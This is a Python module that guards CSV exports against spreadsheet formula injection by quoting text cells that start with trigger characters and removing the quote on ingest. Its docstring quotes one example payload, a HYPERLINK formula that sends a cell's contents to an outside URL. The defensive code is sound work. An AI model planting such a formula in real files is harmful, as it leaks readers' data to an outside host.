"""Cells that are safe to open in a spreadsheet, and read back as they were.

A spreadsheet program treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula, and some treat a leading TAB or CR the same way after trimming: a material
name such as ``=HYPERLINK("http://…?leak="&A2)`` in an export would run when a reader
opens the file (CSV injection; OWASP's guidance is to prefix such cells with a single
quote, which spreadsheets show as text). Every text cell of a CSV export that begins
with one of those characters gets that quote; a plain number such as ``-65`` or ``+5``
stays a number. Ingest removes the quote again, so an export reads back to the state it
came from.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(text: str) -> str:
    """``text``, prefixed with a single quote when a spreadsheet would read it as a formula."""
    if text and text[0] in FORMULA_TRIGGERS and not _PLAIN_NUMBER.fullmatch(text):
        return QUOTE + text
    return text


def restore(text: str) -> str:
    """The text a neutralised cell stood for: a leading quote before a formula character goes."""
    if len(text) > 1 and text[0] == QUOTE and text[1] in FORMULA_TRIGGERS:
        return text[1:]
    return text


def neutralise_row(row: dict[str, Any]) -> dict[str, Any]:
    return {column: neutralise(value) if isinstance(value, str) else value for column, value in row.items()}
